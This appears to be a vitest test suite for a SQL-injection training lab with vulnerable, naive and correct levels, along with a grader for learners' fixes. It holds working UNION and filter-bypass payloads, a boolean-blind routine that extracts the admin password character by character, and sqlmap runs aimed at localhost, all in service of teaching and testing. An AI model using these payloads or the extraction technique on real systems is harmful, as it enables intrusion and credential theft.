import { execFile } from 'node:child_process';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { attackObjectivesMet, gradeSqliDefence, labAdminPassword } from '../src/graders/sqli.js';
import { sqliLabClient } from '../src/graders/sqli-lab-pages.js';
import { labProcesses, type RunningLab } from './lab-process.js';

const SQLMAP = '/usr/bin/sqlmap';
const startLab = labProcesses('sqli');
const sqlmapDirs: string[] = [];

afterAll(async () => {
  await Promise.all(sqlmapDirs.map((dir) => rm(dir, { recursive: true, force: true })));
});

async function searchBody(lab: RunningLab, q: string): Promise<{ status: number; body: string }> {
  const res = await lab.send({ method: 'GET', path: `/search?q=${encodeURIComponent(q)}` });
  return { status: res.status, body: res.body };
}

const READ_ACCOUNTS = "x' union select username, password, 1, 2, 3 from accounts--";
const READ_ACCOUNTS_PAST_FILTER = "x' UnIoN SELECT username, password, 1, 2, 3 FROM accounts/*";

describe('the SQL-injection lab (staff directory)', () => {
  it('answers in Japanese by default and in English on request, with no external resources', async () => {
    const lab = await startLab('correct');
    const ja = await lab.send({ method: 'GET', path: '/search?q=' });
    expect(ja.body).toContain('社員名簿');
    expect(ja.body).toContain('田中 太郎');
    const en = await lab.send({ method: 'GET', path: '/employee', headers: { 'accept-language': 'en-US,en;q=0.8' } });
    expect(en.body).toContain('Employee lookup');
    expect(ja.body + en.body).not.toMatch(/(src|href)="https?:/);
  });

  it('at vulnerable, a UNION through the name search reads the accounts, shows the flag and records the event', async () => {
    const lab = await startLab('vulnerable');
    const { status, body } = await searchBody(lab, READ_ACCOUNTS);
    expect(status).toBe(200);
    expect(body).toContain(lab.flag);
    expect(body).toContain(labAdminPassword(lab.flag));
    const events = await lab.events();
    expect(events).toEqual([expect.objectContaining({ type: 'exploit', objective: 'sqli-union' })]);
    expect(attackObjectivesMet(events)).toEqual({ 'sqli-union': true, 'sqli-blind': false });
  });

  it('at naive, the filter stops the plain payload but mixed case gets past it', async () => {
    const lab = await startLab('naive');
    const blocked = await searchBody(lab, READ_ACCOUNTS);
    expect(blocked.body).not.toContain(lab.flag);
    expect(await lab.events()).toEqual([]);
    const bypass = await searchBody(lab, READ_ACCOUNTS_PAST_FILTER);
    expect(bypass.body).toContain(lab.flag);
    const nested = await searchBody(lab, "x' uniunionon select username, password, 1, 2, 3 from accounts/*");
    expect(nested.body).toContain(lab.flag);
    expect(attackObjectivesMet(await lab.events())['sqli-union']).toBe(true);
  });

  it('at correct, the payloads are searched for as names and reveal nothing', async () => {
    const lab = await startLab('correct');
    for (const q of [READ_ACCOUNTS, READ_ACCOUNTS_PAST_FILTER, "' OR 1=1--"]) {
      const { status, body } = await searchBody(lab, q);
      expect(status).toBe(200);
      expect(body).not.toContain(lab.flag);
      expect(body).toContain('data-rows="0"');
    }
    expect(await lab.events()).toEqual([]);
  });

  it('the flag never shows for ordinary use, and a wrong admin password is refused', async () => {
    const lab = await startLab('vulnerable');
    for (const q of ['', '田中', "O'Brien"]) expect((await searchBody(lab, q)).body).not.toContain(lab.flag);
    const client = sqliLabClient(lab.send);
    expect(await client.login('admin', 'password')).toEqual({ status: 401, outcome: 'failed', flag: false });
    expect(await lab.events()).toEqual([]);
  });

  it('at vulnerable, the admin password extracted character by character through the lookup signs in and reveals the flag', async () => {
    const lab = await startLab('vulnerable');
    const client = sqliLabClient(lab.send);
    const password = "(SELECT password FROM accounts WHERE username='admin')";
    const holds = async (condition: string) => (await client.lookup(`1 AND ${condition}`)).verdict === 'exists';
    /** The smallest n in [low, high] for which `expression > n` is false: a binary search on yes/no answers. */
    const valueOf = async (expression: string, low: number, high: number) => {
      while (low < high) {
        const mid = Math.floor((low + high) / 2);
        if (await holds(`${expression}>${mid}`)) low = mid + 1;
        else high = mid;
      }
      return low;
    };
    const length = await valueOf(`length(${password})`, 0, 64);
    let extracted = '';
    for (let i = 1; i <= length; i += 1) {
      extracted += String.fromCharCode(await valueOf(`unicode(substr(${password},${i},1))`, 32, 126));
    }
    expect(extracted).toBe(labAdminPassword(lab.flag));
    expect(await lab.events()).toEqual([]);

    const signedIn = await client.login('admin', extracted);
    expect(signedIn).toEqual({ status: 200, outcome: 'ok', flag: true });
    expect(attackObjectivesMet(await lab.events())).toEqual({ 'sqli-union': false, 'sqli-blind': true });
  });
});

describe('the lab with a learner edit that does not load', () => {
  it('still starts and shows why on every search', async () => {
    const lab = await startLab('correct', {
      'handler.mjs': 'export function searchStaff(db, q) {\n  return db.exec(\n',
    });
    const { status, body } = await searchBody(lab, 'Tanaka');
    expect(status).toBe(500);
    expect(body).toContain('handler.mjs did not load');
    const result = await gradeSqliDefence(lab.send);
    expect(result.passed).toBe(false);
  });
});

describe(gradeSqliDefence.name, () => {
  // String concatenation also breaks the search for O'Brien (the same quote that opens the injection), so that one
  // functional check fails wherever the query is concatenated; every other functional check passes at every level.
  it.each([
    ['vulnerable', false, ['search-apostrophe']],
    ['naive', false, ['search-apostrophe']],
    ['correct', true, []],
  ] as const)('at %s the defence passes: %s; failing functional checks: %j', async (level, passes, brokenFunctions) => {
    const lab = await startLab(level);
    const result = await gradeSqliDefence(lab.send, { adminPassword: labAdminPassword(lab.flag) });
    const failed = result.checks.filter((c) => !c.passed).map((c) => `${c.id}: ${c.detail}`);
    const report = `grader at ${level}: ${failed.length} of ${result.checks.length} checks failed\n  ${failed.join('\n  ')}`;
    expect(result.passed, report).toBe(passes);
    const functionChecks = result.checks.filter((c) => c.kind === 'function');
    expect(functionChecks.filter((c) => !c.passed).map((c) => c.id)).toEqual(brokenFunctions);
    expect(result.checks.some((c) => c.id === 'login-right-password')).toBe(true);
    if (level === 'naive') {
      const failing = result.checks.filter((c) => !c.passed).map((c) => c.id);
      expect(failing).toEqual(
        expect.arrayContaining(['union-mixed-case', 'union-nested-keyword', 'boolean-blind-lookup']),
      );
    }
  });
});

interface SqlmapRun {
  stdout: string;
  resultLines: string[];
}

/** Debian's sqlmap against one search URL, all of its traffic to 127.0.0.1. */
async function sqlmap(lab: RunningLab): Promise<SqlmapRun> {
  const outputDir = await mkdtemp(path.join(tmpdir(), 'cynex-sqlmap-'));
  sqlmapDirs.push(outputDir);
  const args = [
    '-u',
    `http://127.0.0.1:${lab.port}/search?q=Tanaka`,
    '-p',
    'q',
    '--batch',
    '--flush-session',
    `--output-dir=${outputDir}`,
    '--level=1',
    '--risk=1',
    '--technique=BEU',
    '--ignore-proxy',
    '--disable-coloring',
  ];
  const stdout = await new Promise<string>((resolve, reject) => {
    execFile(
      SQLMAP,
      args,
      { timeout: 180_000, maxBuffer: 16 * 1024 * 1024, env: { PATH: '/usr/bin:/bin', HOME: outputDir } },
      (err, out, errOut) =>
        err ? reject(new Error(`sqlmap failed: ${err.message}\n${out}\n${errOut}`)) : resolve(out),
    );
  });
  const resultLines = stdout
    .split('\n')
    .filter((line) => /injectable|Parameter: |Type: |Title: |injection point/.test(line))
    .map((line) => line.trim());
  return { stdout, resultLines };
}

describe('sqlmap against the lab', () => {
  it('finds the q parameter injectable at vulnerable', { timeout: 300_000 }, async () => {
    const lab = await startLab('vulnerable');
    const { stdout, resultLines } = await sqlmap(lab);
    expect(stdout, resultLines.join('\n')).toContain('sqlmap identified the following injection point(s)');
    expect(stdout).toMatch(/Parameter: q \(GET\)/);
  });

  it('finds nothing injectable at correct', { timeout: 300_000 }, async () => {
    const lab = await startLab('correct');
    const { stdout, resultLines } = await sqlmap(lab);
    expect(stdout, resultLines.join('\n')).not.toContain('identified the following injection point');
    expect(stdout).toMatch(/all tested parameters do not appear to be injectable/);
    expect(await lab.events()).toEqual([]);
  });
});
